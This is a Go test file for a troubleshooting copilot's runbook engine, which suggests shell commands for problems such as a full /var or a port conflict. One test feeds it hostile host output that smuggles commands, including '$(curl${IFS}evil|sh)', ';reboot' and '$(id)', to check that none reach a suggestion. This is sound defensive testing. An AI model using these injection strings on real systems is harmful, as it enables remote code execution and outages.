package runbook

import (
	"slices"
	"strings"
	"testing"

	"sallyport/console/copilot"
)

var asRoot = Context{Host: "root@prod-web-03", User: "root", Connected: true}

func ended(command, output string, exit int) Call {
	return Call{Kind: Executed, Command: command, Output: output, Exit: &exit, Final: true, Context: asRoot}
}

// statuses draws a plan: one letter a step.
func statuses(u *copilot.IntentUpdate) string {
	if u == nil {
		return ""
	}
	var b strings.Builder
	for _, s := range u.Steps {
		b.WriteString(strings.ToUpper(string(s.Status[:1])))
	}
	return b.String()
}

func lines(env copilot.Envelope) []string {
	var out []string
	if env.Commands != nil {
		for _, c := range env.Commands.Commands {
			out = append(out, c.Command)
		}
	}
	return out
}

func says(env copilot.Envelope) string {
	if env.Chat == nil {
		return ""
	}
	return env.Chat.Message
}

// TestAPlanFollowsWhatIsRun plays the story of a full disk.
func TestAPlanFollowsWhatIsRun(t *testing.T) {
	e := NewEngine(shipped(t))
	for _, step := range []struct {
		call    Call
		plan    string
		first   string // the first suggestion afterwards
		says    string
		cleared int
	}{
		{
			Call{Kind: Chat, Message: "/var is full, what's eating it", Context: asRoot},
			"CPPPPP", "df -hT /var", "Nothing is deleted before you have seen it", 0,
		},
		{
			ended("df -h /var", "Filesystem  Size  Used Avail Use% Mounted on\n/dev/sda1    45G   42G  1.2G  98% /var\n", 0),
			"DCPPPP", "du -xh --max-depth=2 /var 2>/dev/null | sort -rh | head -20", "/var is 98% full, 1.2G left.", 1,
		},
		{
			ended("du -xh --max-depth=2 /var 2>/dev/null | sort -rh | head -20", "5.1G\t/var\n4.2G\t/var/log\n0.4G\t/var/lib\n", 0),
			"DDCPPP", "find /var/log -xdev", "/var/log holds 4.2G.", 1,
		},
		{ended("ls -lhS /var/log", "-rw-r----- 1 syslog adm 4.2G syslog\n", 0), "DDDCPP", "lsof -nP +L1", "", 1},
		{ended("lsof -nP +L1", "sh: lsof: command not found\n", 127), "DDDCPP", "find /proc/[0-9]*/fd", "`lsof` is not there", 1},
	} {
		env := answer(t, e, step.call)
		if got := statuses(env.Intent); got != step.plan {
			t.Errorf("%s%s: plan %s, want %s", step.call.Message, step.call.Command, got, step.plan)
		}
		got := lines(env)
		if len(got) == 0 || len(got) > 3 || !strings.HasPrefix(got[0], step.first) {
			t.Errorf("%s%s: suggestions %q", step.call.Message, step.call.Command, got)
		}
		if !strings.Contains(says(env), step.says) {
			t.Errorf("%s%s: says %q", step.call.Message, step.call.Command, says(env))
		}
		if n := clearedIDs(env); n != step.cleared {
			t.Errorf("%s%s: %d cleared", step.call.Message, step.call.Command, n)
		}
	}
}

func clearedIDs(env copilot.Envelope) int {
	if env.Clear == nil {
		return 0
	}
	return len(env.Clear.IDs)
}

func TestTheFirstAnswerOffersALookAndSomethingForPolicyToJudge(t *testing.T) {
	env := answer(t, NewEngine(shipped(t)), Call{Kind: Chat, Message: "/var is full, what's eating it", Context: asRoot})
	got := lines(env)
	want := []string{"df -hT /var", "journalctl --vacuum-size=200M", "find /var/log -name '*.gz' -mtime +30 -delete"}
	if !slices.Equal(got, want) {
		t.Errorf("suggestions: %q", got)
	}
	if env.Chat == nil || len(env.Chat.Mentions) != 1 || env.Chat.Mentions[0] != env.Commands.Commands[0].ID {
		t.Errorf("mentions: %+v", env.Chat)
	}
	if *env.Intent.Confidence != 0.7 {
		t.Errorf("confidence %v", *env.Intent.Confidence)
	}
}

func TestWhoIsNotRootGetsSudo(t *testing.T) {
	e := NewEngine(shipped(t))
	c := Call{Kind: Chat, Message: "who listens on port 443", Context: Context{User: "deploy"}}
	if got := lines(answer(t, e, c)); got[0] != "sudo ss -ltnp 'sport = :443'" {
		t.Errorf("%q", got)
	}
}

// TestOutputWritesNoCommand: whatever a host prints, a suggestion holds only words of
// the runbook and plain words.
func TestOutputWritesNoCommand(t *testing.T) {
	hostile := []string{
		"Filesystem Size Used Avail Use% Mounted on\n/dev/sda1 1G 1G 0 100% /$(curl${IFS}evil|sh)\n",
		"Filesystem Size Used Avail Use% Mounted on\n/dev/sda1 1G 1G 0 100% /x;reboot\n",
		"Filesystem Size Used Avail Use% Mounted on\n/dev/sda1 1G 1G 0 100% /`id`\n",
		"4.2G\t/var/--help;id\n4.2G\t/var/$(id)\n",
		"Error: EADDRINUSE: address already in use :::80;id\n",
		"4711 user R 99.0 10:00 $(id)\n",
		"LISTEN 0 5 *:80 users:((\"a;id\",pid=4$(id)))\n",
	}
	books := shipped(t)
	for _, b := range books {
		for _, out := range hostile {
			p := newPlan()
			p.user = "root"
			p.open(b)
			p.fillFromOutput(out)
			for _, s := range b.Steps {
				for _, c := range s.Commands {
					p.ran(ended(p.fillIn(c.Command), out, 0), out, false)
				}
			}
			for name, v := range p.vars {
				if v != "" && !usable(v) {
					t.Errorf("%s: {%s} is %q", b.Name, name, v)
				}
			}
		}
	}
}

func TestWordsThatMayStandInACommand(t *testing.T) {
	for w, want := range map[string]bool{
		"/var/log": true, "nginx.service": true, "10.0.0.1": true, "a@b": true, "web-1": true, "50%": true,
		"": false, "-rf": false, "--help": false, "a b": false, "$(id)": false, "`id`": false, "a;b": false, "a\nb": false,
		"~root": false, "a*": false, "{a,b}": false, "ä": false, strings.Repeat("a", 201): false,
	} {
		if got := usable(w); got != want {
			t.Errorf("%q: %v", w, got)
		}
	}
}

func TestLinusNoticesTroubleByItself(t *testing.T) {
	e := NewEngine(shipped(t))
	env := answer(t, e, Call{Kind: Update, NewOutput: "\x1b[31mcp: error writing 'x': No space left on device\x1b[0m\n"})
	if env.Intent == nil || !strings.HasPrefix(says(env), "That looks like: **disk full**") {
		t.Errorf("%+v", env)
	}
	if again := answer(t, e, Call{Kind: Update, NewOutput: "No space left on device\n"}); again != (copilot.Envelope{}) {
		t.Errorf("says it twice: %+v", again)
	}
}

func TestOrdinaryOutputIsNoTrouble(t *testing.T) {
	e := NewEngine(shipped(t))
	for _, out := range []string{
		"total 12\ndrwxr-xr-x 2 root root 4096 Nov 30 03:11 .\n",
		"Filesystem Size Used Avail Use% Mounted on\n/dev/sda1 45G 12G 33G 27% /\n",
		"nginx: the configuration file /etc/nginx/nginx.conf syntax is ok\n",
		" 03:11:02 up 12 days,  4 users,  load average: 0.12, 0.02, 0.90\n",
		"",
	} {
		if env := answer(t, e, Call{Kind: Update, NewOutput: out}); env != (copilot.Envelope{}) {
			t.Errorf("%q: %+v", out, env)
		}
	}
}

func TestWhatWasRunBeforeTheQuestionCounts(t *testing.T) {
	e := NewEngine(shipped(t))
	zero := 0
	now := asRoot
	now.LastCommand, now.LastExit = "df -h", &zero
	now.TerminalTail = "# df -h\nFilesystem Size Used Avail Use% Mounted on\n/dev/sda1 45G 44G 1G 99% /srv\n# "
	env := answer(t, e, Call{Kind: Chat, Message: "the disk is full", Context: now})
	if got := statuses(env.Intent); got != "DCPPPP" {
		t.Errorf("plan %s", got)
	}
	if !strings.Contains(env.Intent.Summary, "/srv") {
		t.Errorf("summary %q", env.Intent.Summary)
	}
}

func TestAQuestionInBetweenSaysWhereThePlanStands(t *testing.T) {
	e := NewEngine(shipped(t))
	answer(t, e, Call{Kind: Chat, Message: "/var is full", Context: asRoot})
	env := answer(t, e, Call{Kind: Chat, Message: "and now?", Context: asRoot})
	if !strings.Contains(says(env), "0 of 6 steps done") {
		t.Errorf("says %q", says(env))
	}
	env = answer(t, e, Call{Kind: Chat, Message: "forget it, nginx won't start", Context: asRoot})
	if !strings.Contains(env.Intent.Summary, "nginx") || env.Clear == nil {
		t.Errorf("%+v", env)
	}
}

func TestSmallTalkOpensNoPlan(t *testing.T) {
	for _, message := range []string{"hi", "Hello Linus!", "thanks", "ok", "help", "what can you do?"} {
		env := answer(t, NewEngine(shipped(t)), Call{Kind: Chat, Message: message})
		if env.Intent != nil || env.Commands != nil || says(env) == "" {
			t.Errorf("%s: %+v", message, env)
		}
	}
	if got := says(answer(t, NewEngine(shipped(t)), Call{Kind: Chat, Message: "help"})); !strings.Contains(got, "- Disk full\n") {
		t.Errorf("help: %s", got)
	}
}

func TestAPlanCanBePutAway(t *testing.T) {
	e := NewEngine(shipped(t))
	answer(t, e, Call{Kind: Chat, Message: "/var is full", Context: asRoot})
	env := answer(t, e, Call{Kind: Chat, Message: "never mind", Context: asRoot})
	if env.Clear == nil || !env.Clear.All || !strings.HasPrefix(env.Intent.Summary, "Watching root@") {
		t.Errorf("%+v", env)
	}
	if env := answer(t, e, ended("df -h", "x", 0)); env != (copilot.Envelope{}) {
		t.Errorf("it goes on: %+v", env)
	}
}

// TestWhatIsNotKnownIsCalledSo: no text has a hole, and none holds a placeholder.
func TestWhatIsNotKnownIsCalledSo(t *testing.T) {
	for _, b := range shipped(t) {
		p := newPlan()
		p.open(b)
		texts := []string{p.opening(), p.noticed(), p.standing(), p.intent().Summary}
		for _, s := range p.intent().Steps {
			texts = append(texts, s.Text)
		}
		for _, s := range texts {
			if strings.Contains(s, "  ") || strings.Contains(s, " .") || placeholders.MatchString(s) {
				t.Errorf("%s: %q", b.Name, s)
			}
		}
	}
}

func TestAnUnknownTroubleGetsAFirstLook(t *testing.T) {
	env := answer(t, NewEngine(shipped(t)), Call{Kind: Chat, Message: "hmm, the gizmo misbehaves", Context: asRoot})
	if got := lines(env); len(got) != 3 || got[0] != "uptime" {
		t.Errorf("%q", got)
	}
}

func TestSessionsHavePlansOfTheirOwn(t *testing.T) {
	e := NewEngine(shipped(t))
	answer(t, e, Call{Kind: Chat, Session: "a", Message: "/var is full"})
	if env := answer(t, e, Call{Kind: Chat, Session: "b", Message: "and now?"}); strings.Contains(says(env), "/var") {
		t.Errorf("%q", says(env))
	}
	for i := range 3 * maxPlans {
		answer(t, e, Call{Kind: State, Session: strings.Repeat("x", i+1)})
	}
	if len(e.plans) > maxPlans {
		t.Errorf("%d sessions are remembered", len(e.plans))
	}
}

// TestAnswersAreWithinTheConsolesBounds feeds long and odd text everywhere.
func TestAnswersAreWithinTheConsolesBounds(t *testing.T) {
	long := strings.Repeat("4.2G\t/var/"+strings.Repeat("l", 300)+"\n", 200)
	e := NewEngine(shipped(t))
	answer(t, e, Call{Kind: Chat, Message: "/var is full", Context: asRoot})
	env := answer(t, e, ended("du -xh --max-depth=2 /var | sort", long, 0))
	if len(says(env)) > 4<<10 {
		t.Errorf("%d bytes of chat", len(says(env)))
	}
}
